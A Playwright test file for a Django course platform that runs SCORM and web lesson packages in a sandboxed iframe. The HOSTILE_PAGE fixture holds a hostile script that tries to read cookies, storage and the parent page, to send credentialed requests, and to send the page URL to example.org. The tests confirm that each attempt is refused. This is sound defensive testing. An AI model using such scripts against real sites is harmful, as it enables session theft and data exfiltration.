"""Packages in a real browser: what they keep comes back, what they try against us fails, and nobody is trapped in them."""

import pytest
from axe_playwright_python.sync_playwright import Axe
from playwright.sync_api import Browser, FrameLocator, Page, expect

from courses.packages.models import Practice

from .conftest import scorm12, scorm2004, web

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]

SCORM12_PAGE = """<!doctype html><html><head><meta charset="utf-8"><title>一</title></head><body>
<p id="kept"></p><p id="entry"></p><p id="errors"></p><button id="go">做完</button><a href="second.html">下一页</a>
<script src="findapi.js"></script>
<script>
  const api = findAPI(window);
  api.LMSInitialize("");
  document.getElementById("kept").textContent = api.LMSGetValue("cmi.suspend_data");
  document.getElementById("entry").textContent = api.LMSGetValue("cmi.core.entry") + " " + api.LMSGetValue("cmi.core.lesson_status");
  api.LMSSetValue("cmi.core.lesson_status", "wonderful");
  document.getElementById("errors").textContent = api.LMSGetLastError();
  document.getElementById("go").onclick = () => {
    api.LMSSetValue("cmi.suspend_data", "第三步，选 B");
    api.LMSSetValue("cmi.core.score.raw", "85");
    api.LMSSetValue("cmi.core.lesson_status", "completed");
    api.LMSSetValue("cmi.core.exit", "suspend");
    api.LMSCommit("");
  };
</script></body></html>"""
# As authoring tools write it: it climbs to the parents until it finds an API.
FIND_API = """function findAPI(win) {
  let tries = 0;
  while (win.API == null && win.parent != null && win.parent != win && tries++ < 7) win = win.parent;
  return win.API;
}"""
SECOND_PAGE = """<!doctype html><html><head><meta charset="utf-8"></head><body><p id="kept"></p><script>
  API.LMSInitialize(""); document.getElementById("kept").textContent = API.LMSGetValue("cmi.suspend_data");
</script></body></html>"""
SCORM2004_PAGE = """<!doctype html><html><head><meta charset="utf-8"><title>二</title></head><body>
<p id="kept"></p><button id="go">做完</button>
<script>
  const api = window.API_1484_11;
  api.Initialize("");
  document.getElementById("kept").textContent = `${api.GetValue("cmi.location")} ${api.GetValue("cmi.entry")} ${api.GetValue("cmi.interactions._count")}`;
  document.getElementById("go").onclick = () => {
    api.SetValue("cmi.location", "p4");
    api.SetValue("cmi.interactions.0.id", "q1");
    api.SetValue("cmi.interactions.0.type", "choice");
    api.SetValue("cmi.score.scaled", "0.7");
    api.SetValue("cmi.success_status", "passed");
    api.SetValue("cmi.completion_status", "completed");
    api.SetValue("cmi.exit", "suspend");
    api.Terminate("");
  };
</script></body></html>"""
HOSTILE_PAGE = """<!doctype html><html><head><meta charset="utf-8"></head><body><ul id="tried"></ul><script>
const own = Object.getOwnPropertyDescriptor(Document.prototype, "cookie");
const tries = {
  cookie: () => own.get.call(document),
  storage: () => Object.getOwnPropertyDescriptor(Window.prototype, "localStorage")?.get.call(window).length ?? indexedDB.open("x"),
  parent: () => parent.document.title,
  top: () => top.document.body.innerHTML,
  leave: () => { top.location.href = "https://example.org/"; },
  popup: () => { if (!open("/accounts/")) throw new Error("blocked"); },
  mine: () => fetch("a.txt").then((answer) => answer.text()),
  site: () => fetch("/notices/", { credentials: "include" }).then((answer) => answer.text()),
  report: () => fetch(`/packages/${location.hash.slice(1) || 1}/report/`, { method: "POST", credentials: "include", body: "{}" }),
  stranger: () => fetch("https://example.org/?" + location.href),
  beacon: () => { if (!navigator.sendBeacon("/packages/1/report/", "{}")) throw new Error("blocked"); return "queued"; },
  picture: () => new Promise((yes, no) => { const i = new Image(); i.onload = yes; i.onerror = no; i.src = "/static/img/logo.svg"; }),
  script: () => new Promise((yes, no) => { const s = document.createElement("script"); s.onload = yes; s.onerror = no; s.src = "/static/js/notes.js"; document.head.append(s); }),
};
(async () => {
  for (const [name, attempt] of Object.entries(tries)) {
    let told;
    try { told = `got ${await attempt()}`; } catch (error) { told = "refused"; }
    const line = document.createElement("li");
    line.id = name;
    line.textContent = told;
    document.getElementById("tried").append(line);
  }
  document.body.dataset.over = "1";
})();
</script></body></html>"""


@pytest.fixture
def learner(make_user):
    return make_user("王小芳")


@pytest.fixture
def enter(browser: Browser, live_server, client, learner):
    """Return a function that opens a lesson as one learner on a device of its own: `enter(lesson)`."""
    contexts = []

    def open_lesson(lesson, **options) -> Page:
        client.force_login(learner, backend="django.contrib.auth.backends.ModelBackend")
        context = browser.new_context(locale="zh-CN", viewport={"width": 360, "height": 740}, **options)
        contexts.append(context)
        context.add_cookies([{"name": "sessionid", "value": client.cookies["sessionid"].value, "url": live_server.url}])
        page = context.new_page()
        page.goto(live_server.url + lesson.url)
        return page

    yield open_lesson
    for context in contexts:
        context.close()


def play(page: Page) -> FrameLocator:
    page.locator("[data-open]").click()
    return page.frame_locator("[data-frame] iframe")


def test_scorm_1_2_finds_its_api_and_what_it_kept_on_another_device(enter, make_package, publish_with):
    files = {"findapi.js": FIND_API, "second.html": SECOND_PAGE}
    lesson = publish_with(make_package(scorm12(SCORM12_PAGE, **files)))
    page = enter(lesson)
    frame = play(page)
    expect(frame.locator("#entry")).to_have_text("ab-initio not attempted")
    expect(frame.locator("#errors")).to_have_text("405")
    frame.locator("#go").click()
    expect(page.locator("[data-when-done]")).to_be_visible()
    expect(page.locator("[data-score]")).to_contain_text("85")
    expect(page.locator("[data-done]")).to_have_count(0)
    # The next page of the package begins with what this one kept, before the server could have told it.
    frame.locator("a").click()
    expect(frame.locator("#kept")).to_have_text("第三步，选 B")

    practice = Practice.objects.get()
    assert (practice.standing, practice.score, practice.data["suspend_data"]) == ("completed", 85.0, "第三步，选 B")
    assert practice.is_done

    page.reload()
    frame = play(page)
    expect(frame.locator("#kept")).to_have_text("第三步，选 B")
    expect(frame.locator("#entry")).to_have_text("resume completed")
    other = play(enter(lesson))
    expect(other.locator("#kept")).to_have_text("第三步，选 B")


def test_scorm_2004_keeps_place_answers_and_mark(enter, make_package, publish_with):
    lesson = publish_with(make_package(scorm2004(SCORM2004_PAGE)))
    page = enter(lesson)
    frame = play(page)
    expect(frame.locator("#kept")).to_have_text("ab-initio 0")
    frame.locator("#go").click()
    expect(page.locator("[data-when-done]")).to_be_visible()
    practice = Practice.objects.get()
    assert (practice.standing, practice.score) == ("passed", 70.0)
    page.reload()
    expect(play(page).locator("#kept")).to_have_text("p4 resume 1")


def test_a_hostile_package_gets_nothing_of_ours(enter, make_package, publish_with, live_server):
    lesson = publish_with(make_package(web(**{"index.html": HOSTILE_PAGE, "a.txt": "mine"})))
    page = enter(lesson)
    asked = []
    page.on("request", lambda request: asked.append(request))
    frame = play(page)
    expect(frame.locator("body[data-over]")).to_be_attached(timeout=20_000)
    told = {name: frame.locator(f"#{name}").inner_text() for name in (
        "cookie", "storage", "parent", "top", "leave", "popup", "mine", "site", "report", "stranger", "picture", "script",
    )}  # fmt: skip
    assert told.pop("mine") == "got mine"
    assert set(told.values()) == {"refused"}
    assert page.url == live_server.url + lesson.url
    for request in asked:
        # The lesson itself asks for the first page; from there on no cookie comes along.
        if "/packages/play/" in request.url and request.resource_type != "document":
            assert "sessionid" not in request.all_headers().get("cookie", "")
    assert Practice.objects.get().saved_at is None


def test_a_package_that_walks_to_our_pages_comes_as_a_stranger(enter, make_package, publish_with, learner):
    walk = '<!doctype html><body><script>location.href = "/accounts/";</script>'
    page = enter(publish_with(make_package(web(**{"index.html": walk}))))
    with page.expect_response(lambda response: response.url.endswith("/accounts/")) as came:
        play(page)
    assert "sessionid" not in came.value.request.all_headers().get("cookie", "")


def test_a_message_from_elsewhere_is_not_believed(enter, make_package, publish_with):
    page = enter(publish_with(make_package(scorm12(SCORM12_PAGE, **{"findapi.js": FIND_API, "second.html": SECOND_PAGE}))))
    expect(play(page).locator("#errors")).to_have_text("405")
    page.evaluate("postMessage({funeng: 'package', type: 'report', data: {core: {lesson_status: 'passed'}}}, '*')")
    page.wait_for_timeout(800)
    practice = Practice.objects.get()
    assert practice.standing == "begun"
    assert not practice.is_done


def test_nobody_is_trapped_and_the_frame_has_a_name(enter, make_package, publish_with):
    trap = '<!doctype html><body><button autofocus>一</button><script>addEventListener("keydown", (e) => { e.preventDefault(); e.stopImmediatePropagation(); }, true);</script>'
    page = enter(publish_with(make_package(web(**{"index.html": trap}))))
    frame = play(page)
    frame.locator("button").focus()
    page.keyboard.press("Tab")
    expect(frame.locator("button")).to_be_focused()
    page.keyboard.press("Escape")
    page.keyboard.press("Escape")
    expect(page.locator("[data-after]")).to_be_focused()
    expect(page.locator("[data-frame] iframe")).to_have_attribute("title", "选轮椅")
    page.locator("[data-skip]").focus()
    page.keyboard.press("Enter")
    expect(page.locator("[data-after]")).to_be_focused()
    page.keyboard.press("Enter")
    expect(page.locator("[data-stage]")).to_be_hidden()
    expect(page.locator("[data-open]")).to_be_focused()
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth + 1")


def test_the_block_is_clean_in_axes_eyes_closed_and_open(enter, make_package, publish_with):
    page = enter(publish_with(make_package(web())), bypass_csp=True)  # for the tester's own script
    for _closed_then_open in range(2):
        found = Axe().run(page, context="[data-package]", options={"iframes": False}).response["violations"]
        assert [(row["id"], [node["html"][:120] for node in row["nodes"]]) for row in found] == []
        if page.locator("[data-stage]").is_hidden():
            expect(play(page).locator("h1")).to_be_visible()


def test_who_worked_through_it_in_words_says_so(enter, make_package, publish_with):
    page = enter(publish_with(make_package(web())))
    page.locator("[data-done] button").click()
    expect(page.locator("[data-when-done]")).to_be_visible()
    expect(page.locator("[data-done]")).to_have_count(0)
    assert Practice.objects.get().is_done


def test_what_a_package_reports_without_a_network_is_sent_when_it_is_back(enter, make_package, publish_with):
    page = enter(publish_with(make_package(scorm2004(SCORM2004_PAGE))))
    frame = play(page)
    expect(frame.locator("#kept")).to_have_text("ab-initio 0")
    page.context.set_offline(True)
    frame.locator("#go").click()
    expect(page.locator("[data-said]")).to_have_attribute("data-state", "bad")
    assert not Practice.objects.get().is_done
    page.context.set_offline(False)
    expect(page.locator("[data-when-done]")).to_be_visible(timeout=15_000)
    assert Practice.objects.get().is_done


def test_a_package_that_reports_only_when_it_is_closed_is_heard(enter, make_package, publish_with):
    late = """<!doctype html><body><p id="ready">好</p><script>API.LMSInitialize("");
      addEventListener("unload", () => { API.LMSSetValue("cmi.core.lesson_status", "passed"); API.LMSFinish(""); });</script>"""
    page = enter(publish_with(make_package(scorm12(late))))
    expect(play(page).locator("#ready")).to_be_visible()
    page.locator("[data-after]").click()
    expect(page.locator("[data-when-done]")).to_be_visible()
    assert Practice.objects.get().standing == "passed"
